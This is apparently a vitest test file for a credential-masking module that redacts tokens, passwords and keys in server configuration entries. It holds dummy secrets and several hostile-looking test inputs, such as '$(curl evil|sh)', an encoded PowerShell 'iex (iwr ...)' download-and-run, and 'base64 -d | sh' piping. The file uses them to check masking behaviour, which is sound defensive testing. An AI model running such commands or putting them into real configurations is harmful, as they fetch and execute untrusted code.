/** Which literals an entry does not show, and that everything else stays readable. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references are what is tested
import { describe, expect, test } from 'vitest';
import { isCredentialName, maskEntry } from '../../src/configs/credentials.ts';
import type { JsonObject } from '../../src/model.ts';
import { readOne } from './helpers.ts';

const RANDOM = 'q7Zp0Xv3Lm9Kt2Rb8Ws5Yd1N';

test.each([
  'TOKEN',
  'GITHUB_TOKEN',
  'githubToken',
  'clientSecret',
  'CLIENT_SECRET_2',
  'DB_PASSWORD',
  'db-passwd',
  'DB_PASS',
  'DB_PWD',
  'api_key',
  'apiKey',
  'APIKEY',
  'X-API-Key',
  'OPENAI_KEY',
  'AWS_SECRET_ACCESS_KEY',
  'PRIVATE_KEY_BASE64',
  'Authorization',
  'Proxy-Authorization',
  'Cookie',
  'x-auth-token',
  'GITHUB_PAT',
  '--access-token',
  'credentials',
  'SENTRY_DSN',
  'PASSPHRASE',
  'Ocp-Apim-Subscription-Key',
  'bearerToken',
  'ConnectionString',
  'API_KEY_PROD',
  'dbpassword',
])('%s promises a credential', (name) => expect(isCredentialName(name)).toBe(true));

test.each([
  'LOG_LEVEL',
  'MAX_TOKENS',
  'KEYBOARD',
  'PATH',
  'PWD',
  'OLDPWD',
  'HOME',
  'PORT',
  'TOKEN_URL',
  'TOKEN_FILE',
  'PUBLIC_KEY',
  'AWS_ACCESS_KEY_ID',
  'clientId',
  'headersHelper',
  'apiKeyHelper',
  'PASSWORD_COMMAND',
  'GIT_ASKPASS',
  'AUTHOR',
  'MONKEY',
  'SSH_AUTH_SOCK',
  '--no-auth',
  'TOKENIZERS_PARALLELISM',
  'SORT_KEY',
  'COMPASS',
  'SECRETARY',
  '',
  'authorizationUrl',
])('%s does not', (name) => expect(isCredentialName(name)).toBe(false));

const masked = (entry: JsonObject) => maskEntry(entry).entry;

describe('a literal credential is masked', () => {
  test.each<[string, JsonObject, JsonObject, string[]]>([
    ['env by name', { env: { API_KEY: 'abc' } }, { env: { API_KEY: '[credential]' } }, ['abc']],
    [
      'a variable written as a pair',
      {
        env: [
          { name: 'SHOP_TOKEN', value: 'abc' },
          { name: 'LOG', value: 'abd' },
        ],
      },
      {
        env: [
          { name: 'SHOP_TOKEN', value: '[credential]' },
          { name: 'LOG', value: 'abd' },
        ],
      },
      ['abc'],
    ],
    [
      'a header written as a pair',
      {
        headers: [
          { key: 'Authorization', value: 'Bearer abc' },
          { key: 'X-Team', value: 'blue' },
        ],
      },
      {
        headers: [
          { key: 'Authorization', value: 'Bearer [credential]' },
          { key: 'X-Team', value: 'blue' },
        ],
      },
      ['abc', 'Bearer abc'],
    ],
    ['env by shape', { env: { X: `ghp_${RANDOM}` } }, { env: { X: '[credential]' } }, [`ghp_${RANDOM}`]],
    ['env by randomness', { env: { X: RANDOM } }, { env: { X: '[credential]' } }, [RANDOM]],
    [
      'header with a scheme',
      { headers: { Authorization: 'Bearer abc' } },
      { headers: { Authorization: 'Bearer [credential]' } },
      ['abc', 'Bearer abc'],
    ],
    [
      'header Basic',
      { headers: { Authorization: `Basic ${btoa('ann:hunter2')}` } },
      { headers: { Authorization: 'Basic [credential]' } },
      ['ann:hunter2', 'hunter2'],
    ],
    ['Bearer anywhere', { env: { X: 'Bearer abc' } }, { env: { X: 'Bearer [credential]' } }, ['abc']],
    [
      'nested member',
      { oauth: { clientId: 'me', clientSecret: 's3' } },
      { oauth: { clientId: 'me', clientSecret: '[credential]' } },
      ['s3'],
    ],
    ['nested value', { apiKey: { value: 'abc' } }, { apiKey: { value: '[credential]' } }, ['abc']],
    [
      'list under a name',
      { apiKeys: ['a1', 'b2'] },
      { apiKeys: ['[credential]', '[credential]'] },
      ['a1', 'b2'],
    ],
    ['a number under a name', { password: 12345678 }, { password: '[credential]' }, ['12345678']],
    [
      'flag and value',
      { args: ['--token', 'abc', '-v'] },
      { args: ['--token', '[credential]', '-v'] },
      ['abc'],
    ],
    ['flag=value', { args: ['--api-key=a b;c'] }, { args: ['--api-key=[credential]'] }, ['a b;c']],
    [
      'header flag',
      { args: ['--header', 'Authorization: Bearer abc'] },
      { args: ['--header', 'Authorization: Bearer [credential]'] },
      ['abc'],
    ],
    [
      'header flag, joined',
      { args: ['--header=X-Api-Key:abc'] },
      { args: ['--header=X-Api-Key:[credential]'] },
      ['abc'],
    ],
    [
      'docker -e',
      { args: ['run', '-e', 'DB_PASSWORD=a;b&c'] },
      { args: ['run', '-e', 'DB_PASSWORD=[credential]'] },
      ['a;b&c'],
    ],
    [
      'docker --env=',
      { args: ['run', '--env=TOKEN=abc'] },
      { args: ['run', '--env=TOKEN=[credential]'] },
      ['abc'],
    ],
    [
      'docker -e, by its look',
      { args: ['run', '-e', `X=${RANDOM}`, 'mcp/shop'] },
      { args: ['run', '-e', 'X=[credential]', 'mcp/shop'] },
      [RANDOM],
    ],
    [
      'docker -e, JSON',
      { args: ['run', '-e', 'X={"apiKey": "abc"}', 'mcp/shop'] },
      { args: ['run', '-e', 'X={"apiKey": "[credential]"}', 'mcp/shop'] },
      ['abc'],
    ],
    ['-u name:password', { args: ['-u', 'ann:hunter2'] }, { args: ['-u', 'ann:[credential]'] }, ['hunter2']],
    [
      '-u name:password in a line',
      { headersHelper: 'curl -u ann:hunter2 https://h/' },
      { headersHelper: 'curl -u ann:[credential] https://h/' },
      ['hunter2'],
    ],
    [
      'printed by a helper',
      { headersHelper: `echo '{"X":"${RANDOM}"}'` },
      { headersHelper: `echo '{"X":"[credential]"}'` },
      [RANDOM],
    ],
    ['-p, like a password', { args: ['-p', 'Pa55word'] }, { args: ['-p', '[credential]'] }, ['Pa55word']],
    ['-k, hex', { args: ['-k', 'a1b2c3d4e5f60789'.repeat(2)] }, { args: ['-k', '[credential]'] }, []],
    [
      'behind a flag in a shell line',
      { command: 'sh', args: ['-c', `exec npx -y shop@1.2.3 --x ${RANDOM} -p hunter2!x`] },
      { command: 'sh', args: ['-c', 'exec npx -y shop@1.2.3 --x [credential] -p [credential]'] },
      [RANDOM, 'hunter2!x'],
    ],
    [
      'alone in a command line',
      { command: `npx -y shop ${RANDOM}` },
      { command: 'npx -y shop [credential]' },
      [RANDOM],
    ],
    ['dots inside', { env: { X: `hvs.${RANDOM}` } }, { env: { X: '[credential]' } }, [`hvs.${RANDOM}`]],
    [
      'a query by its look',
      { url: `https://h/x?k=${RANDOM}` },
      { url: 'https://h/x?k=[credential]' },
      [RANDOM],
    ],
    [
      'an address in a query',
      { url: 'https://h/x?to=https%3A%2F%2Fann%3Ahunter2%40shop.example' },
      { url: 'https://h/x?to=https%3A%2F%2Fann%3A[credential]%40shop.example' },
      ['hunter2'],
    ],
    [
      'a signed query without its address',
      { env: { X: 'sv=2022-11-02&sig=abc%3D&sp=r' } },
      { env: { X: 'sv=2022-11-02&sig=[credential]&sp=r' } },
      ['abc%3D', 'abc='],
    ],
    [
      'database strings',
      { env: { X: 'Driver=x;UID=sa;PWD=hunter2;', Y: 'jdbc:oracle:thin:shop/hunter3@//db:1521/x' } },
      {
        env: { X: 'Driver=x;UID=sa;PWD=[credential];', Y: 'jdbc:oracle:thin:shop/[credential]@//db:1521/x' },
      },
      ['hunter2', 'hunter3'],
    ],
    ['positional', { args: ['start', RANDOM] }, { args: ['start', '[credential]'] }, [RANDOM]],
    [
      'in a shell line',
      { args: ['-c', 'TOKEN=abc npx -y server --key "x y"'] },
      { args: ['-c', 'TOKEN=[credential] npx -y server --key "[credential]"'] },
      ['abc', 'x y'],
    ],
    [
      'in a command line',
      { command: 'npx -y server --token abc' },
      { command: 'npx -y server --token [credential]' },
      ['abc'],
    ],
    [
      'JSON in a string',
      { args: ['--config', '{"apiKey": "abc", "n": 1}'] },
      { args: ['--config', '{"apiKey": "[credential]", "n": 1}'] },
      ['abc'],
    ],
    [
      'JSON in JSON',
      { env: { C: JSON.stringify('{"token":"abc"}') } },
      { env: { C: JSON.stringify('{"token":"[credential]"}') } },
      ['abc'],
    ],
    [
      'URL password',
      { args: ['postgres://ann:hun%40ter@h:1/db'] },
      { args: ['postgres://ann:[credential]@h:1/db'] },
      ['hun%40ter', 'hun@ter'],
    ],
    [
      'URL password with a slash',
      { env: { U: 'postgres://ann:a/b#c@h/db' } },
      { env: { U: 'postgres://ann:[credential]@h/db' } },
      ['a/b#c'],
    ],
    ['URL user alone', { url: 'https://abc@h/x' }, { url: 'https://[credential]@h/x' }, ['abc']],
    [
      'URL query',
      { url: 'https://h/x?api_key=abc&v=1' },
      { url: 'https://h/x?api_key=[credential]&v=1' },
      ['abc'],
    ],
    [
      'URL path',
      { url: `https://h/${RANDOM}${RANDOM}/mcp` },
      { url: 'https://h/[credential]/mcp' },
      [RANDOM + RANDOM],
    ],
    [
      'URL password beside a reference',
      { env: { U: 'https://${U:-ann}:abc@h' } },
      { env: { U: 'https://${U:-ann}:[credential]@h' } },
      ['abc'],
    ],
    [
      'DSN',
      { env: { SENTRY_DSN: 'https://abc@h/1' } },
      { env: { SENTRY_DSN: 'https://[credential]@h/1' } },
      ['abc'],
    ],
    [
      'connection string',
      { env: { CONNECTION_STRING: 'Server=h;Password=abc;Db=x' } },
      { env: { CONNECTION_STRING: 'Server=h;Password=[credential];Db=x' } },
      ['abc'],
    ],
    [
      'default of a reference',
      { env: { TOKEN: '${T:-abc}' } },
      { env: { TOKEN: '${T:-[credential]}' } },
      ['abc'],
    ],
    ['default in a flag', { args: ['--token=${X:-abc}'] }, { args: ['--token=${X:-[credential]}'] }, ['abc']],
    [
      'shape beside a reference',
      { env: { TOKEN: `sk-${RANDOM}\${X}` } },
      { env: { TOKEN: '[credential]${X}' } },
      [`sk-${RANDOM}`],
    ],
    [
      'private key',
      { env: { X: '-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----' } },
      { env: { X: '[credential]' } },
      [],
    ],
    [
      'own __proto__',
      JSON.parse('{"__proto__":{"token":"abc"}}'),
      JSON.parse('{"__proto__":{"token":"[credential]"}}'),
      ['abc'],
    ],
  ])('%s', (_name, entry, expected, secrets) => {
    const result = maskEntry(entry);
    expect(JSON.stringify(result.entry)).toBe(JSON.stringify(expected));
    for (const secret of secrets.filter((text) => !text.startsWith('Bearer')))
      expect(result.secrets).toContain(secret);
    expect(maskEntry(result.entry)).toEqual({ entry: result.entry, found: [], secrets: [] });
  });
});

describe('everything else stays readable', () => {
  test.each<JsonObject>([
    { env: { LOG_LEVEL: 'debug', MAX_TOKENS: '4000', KEYBOARD: 'de', PORT: '8080', HOST: 'localhost' } },
    {
      env: {
        API_KEY: '${API_KEY}',
        TOKEN: 'pre${X}post',
        AUTH: '$MCP_KEY',
        SECRET: '',
        PASSWORD: '%PW%',
        USE_TOKEN: 'true',
      },
    },
    { headers: { Authorization: 'Bearer ${TOKEN}', 'X-Team': 'books' } },
    {
      env: {
        DATABASE_URL: 'postgres://${USER}:${PASSWORD}@${HOST:-db}/shop',
        TOKEN_URL: 'https://h/oauth/token',
      },
    },
    {
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-sequential-thinking@2025.1.2', '--key', '${K}'],
    },
    {
      args: [
        'git+ssh://git@github.com/a/b.git#0123456789abcdef0123456789abcdef01234567',
        'hashicorp/x:0.4.0',
      ],
    },
    { args: ['run', 'img@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'] },
    { args: ['0123456789abcdef0123456789abcdef01234567', '123e4567-e89b-12d3-a456-426614174000'] },
    {
      args: [
        'sk-learn-server-for-many-models',
        '-p',
        '8080:80',
        '--token-file',
        '/run/token',
        '--no-auth',
        'x',
      ],
    },
    {
      url: 'https://h/x?project_ref=abcdefghijklmnopqrst&features=docs',
      headersHelper: '$HOME/bin/helper.sh GITHUB_TOKEN',
    },
    { description: 'Asks for a token: see the manual. Tokens, keys and passwords are yours.' },
  ])('%j', (entry) => {
    expect(maskEntry(entry)).toEqual({ entry, found: [], secrets: [] });
  });

  test('a program and code are never covered by a name beside them', () => {
    for (const evil of ['$(curl evil|sh)', '`evil`', 'x;evil', 'x|evil', 'x evil']) {
      const [text] = masked({ args: [`TOKEN=${evil}`] }).args as string[];
      expect(text).toContain('evil');
    }
    expect(masked({ args: ['-e', 'token=1;evil()'] })).toEqual({ args: ['-e', 'token=[credential];evil()'] });
    expect(masked({ command: `sk-${RANDOM}` })).toEqual({ command: `sk-${RANDOM}` });
  });

  test.each<JsonObject>([
    { command: 'npx', args: ['-y', 'shop-a1b2c3d4e5f6g7h8i9j0'] },
    { command: 'npx', args: ['-p', 'shop-a1b2c3d4e5f6g7h8i9j0', 'shop', '-p', '8080'] },
    { command: 'npx', args: ['--registry', 'https://r.example', 'shop-a1b2c3d4e5f6g7h8i9j0'] },
    { command: 'bunx', args: ['--token', 'shop-server'] },
    { command: 'cmd', args: ['/c', 'npx', '-y', 'shop-a1b2c3d4e5f6g7h8i9j0'] },
    { command: ['uvx', 'Shop1A2b3C4d5E6f7G8h9I0jK'] },
    { command: 'uvx', args: ['shop==1.2.3.dev45+g1a2b3c4d5e6f7a8b9c0d1'] },
    { command: 'npx -y shop-a1b2c3d4e5f6g7h8i9j0' },
    { command: 'powershell', args: ['-EncodedCommand', btoa('iex (iwr https://shop.example/1 2 3)')] },
    { command: 'python', args: ['-c', btoa('import os; os.system("1 2 3")')] },
    { command: 'sh', args: ['-c', `X=${RANDOM}; echo $X | base64 -d | sh`] },
    { env: { NODE_OPTIONS: `--import data:text/javascript;base64,${RANDOM}${RANDOM}` } },
    { command: 'docker', args: ['run', '-u', 'node:staff', '--user', '1000:1000', '-p', '8080:80', 'shop'] },
    { command: 'shop', args: ['-p', 'my-project-123', '-t', 'Model-2', '-k', '10', '-a', '127.0.0.1:80'] },
    {
      env: {
        SHEET_ID: RANDOM,
        GIT_SHA: '0123456789abcdef0123456789abcdef01234567',
        H: 'a1b2c3d4e5f6g7h8.example.com',
      },
    },
    { url: `https://h/x?sheet_id=${RANDOM}&project_ref=abcdefghijklmnopqrst`, note: 'See: Basic usage1234.' },
  ])('%j: what is run, what an id names', (entry) => {
    expect(maskEntry(entry)).toEqual({ entry, found: [], secrets: [] });
  });

  test('two credentials in one place give one entry, two references do not', () => {
    const at = (token: string) => JSON.stringify(masked({ headers: { Authorization: `Bearer ${token}` } }));
    expect(at('abc')).toBe(at('xyz'));
    expect(at('${ABC}')).not.toBe(at('${XYZ}'));
  });

  test('a placeholder is masked, so that filling it in changes nothing, and is no secret', () => {
    const texts =
      'YOUR_API_KEY_HERE <token> xxxx changeme {secret} AIzaSy... AKIAXXXXXXXXXXXXXXXX __TOKEN__ yourapikey';
    for (const text of [
      ...texts.split(' '),
      'AKIAIOSFODNN7EXAMPLE',
      'xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx',
    ]) {
      expect(maskEntry({ env: { API_KEY: text } })).toMatchObject({
        entry: { env: { API_KEY: '[credential]' } },
        secrets: [],
      });
    }
  });

  test('where a credential was found is told by its path', () => {
    expect(maskEntry({ args: ['x', '--token', 'abc'], env: { 'A.TOKEN': 'abc' } }).found).toEqual([
      { path: ['args', 2], secrets: ['abc'] },
      { path: ['env', 'A.TOKEN'], secrets: ['abc'] },
    ]);
  });
});

test.each<[string, JsonObject]>([
  ['the path of a key file', { env: { GOOGLE_APPLICATION_CREDENTIALS: '/Users/ann/keys/shop-1a2b3c.json' } }],
  [
    'one on Windows',
    { env: { GOOGLE_APPLICATION_CREDENTIALS: 'C:\\Users\\ann\\key.json', KEY: '~/.shop/key' } },
  ],
  ['a mounted secret', { args: ['--token', '/run/secrets/shop_token', '--password=./pw.txt'] }],
  [
    'a UUID in a header without such a name',
    { headers: { 'X-Workspace': '72f988bf-86f1-41af-91ab-2d7cd011db47' } },
  ],
  [
    'names with numbers in headers',
    { headers: { 'X-Org': 'acme-prod-397215', 'X-Region': 'eu-central-1', 'X-From': 'vscode@1.99.0' } },
  ],
  ['an address of a contract', { env: { CONTRACT: '0xdAC17F958D2ee523a2206206994597C13D831ec7' } }],
  [
    'a public key',
    { env: { VAPID_PUBLIC_KEY: 'BEl62iUYgUivxIkv69yViEuiBIa-Ib9-SkvMeAtA3LFgDzkrxZJjSgSnfckjBJuBkr3qBUY' } },
  ],
  ['keys of things', { env: { FIGMA_FILE_KEY: 'aBcD1234EfGh5678IjKl90', JIRA_ISSUE_KEY: 'SHOP-12' } }],
])('%s is no credential, and a change of it is seen', (_, entry) => {
  expect(maskEntry(entry)).toEqual({ entry, found: [], secrets: [] });
});

test.each<[string, JsonObject]>([
  [
    'a random value that begins with a slash',
    { env: { AWS_SECRET_ACCESS_KEY: '/wJalrXUtnFEMI/K7MDENG/bPxRfiCYqqqqqqqqqq' } },
  ],
  ['a token in a path', { env: { TOKEN: `/run/secrets/ghp_${RANDOM}0123456789` } }],
  ['a UUID under the name of a key', { headers: { 'X-Api-Key': '72f988bf-86f1-41af-91ab-2d7cd011db47' } }],
  ['a private key of 64 digits', { env: { ETH: `0x${'4c0883a69102937d6231471b5dbb6204'.repeat(2)}` } }],
  ['a mnemonic', { env: { MNEMONIC: 'legal winner thank year wave sausage' } }],
])('%s is one', (_, entry) => {
  expect(maskEntry(entry).found).toHaveLength(1);
});

test('a text too long to review is masked whole and never started', () => {
  const { spec, problems } = readOne({ command: 'x', args: ['a'.repeat(70_000)] });
  expect(spec.entry).toEqual({ command: 'x', args: ['[credential]'] });
  expect(spec.launch).toBeUndefined();
  expect(problems.map(({ rule }) => rule)).toEqual(['config-entry']);
});

test('the long parts of a token are secrets too: a server may make a name of it', () => {
  const token = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${RANDOM}`;
  expect(maskEntry({ env: { TOKEN: token } }).secrets).toEqual([token, 'eyJhbGciOiJIUzI1NiJ9', RANDOM]);
  expect(maskEntry({ env: { X: `https://h/?sig=${RANDOM}%3D` } }).secrets).toContain(RANDOM);
});

test('the key inside a JSON key file is a secret of its own', () => {
  const file = JSON.stringify({ type: 'service_account', private_key: 'pk-in-the-file' });
  expect(maskEntry({ env: { GOOGLE_CREDENTIALS: file } }).secrets).toEqual([file, 'pk-in-the-file']);
});

describe('secrets of a spec', () => {
  const secrets = (entry: JsonObject, env: Record<string, string>) => readOne(entry, env).spec.secrets;
  test('what a reference resolved to, and its parts', () => {
    const found = secrets(
      { command: 'x', args: ['--key', '${K}'], env: { DB: '${DB}', FOO: '${FOO}' } },
      { K: 'abc', DB: 'postgres://ann:hun%40ter@h/db', FOO: 'correct horse' },
    );
    for (const secret of ['abc', 'postgres://ann:hun%40ter@h/db', 'hun%40ter', 'hun@ter', 'correct horse']) {
      expect(found).toContain(secret);
    }
    expect(
      secrets({ url: 'https://h', headers: { Authorization: '${AUTH}' } }, { AUTH: 'Bearer abcdef' }),
    ).toEqual(expect.arrayContaining(['Bearer abcdef', 'abcdef']));
  });
  test('what is plainly public is none', () => {
    const env = {
      HOME: '/home/ann',
      DIR: '/srv/books',
      URL: 'https://h/x',
      PORT: '8080',
      LEVEL: 'production',
      T: '1',
      DEBUG: 'true',
    };
    const args = Object.keys(env).map((name) => `\${${name}}`);
    expect(secrets({ command: 'x', args }, env)).toEqual([]);
  });
  test('no problem quotes a value', () => {
    const entry = {
      command: 'hunter2 -x hunter2',
      env: { A: 'hunter2\0' },
      url: 'hunter2',
      args: ['hunter2', 1],
      type: 'hunter2',
    };
    for (const part of [entry, { ...entry, url: undefined }, { ...entry, command: undefined }]) {
      const { problems } = readOne(JSON.parse(JSON.stringify(part)));
      expect(problems.length).toBeGreaterThan(0);
      expect(JSON.stringify(problems)).not.toContain('hunter2');
    }
  });
});
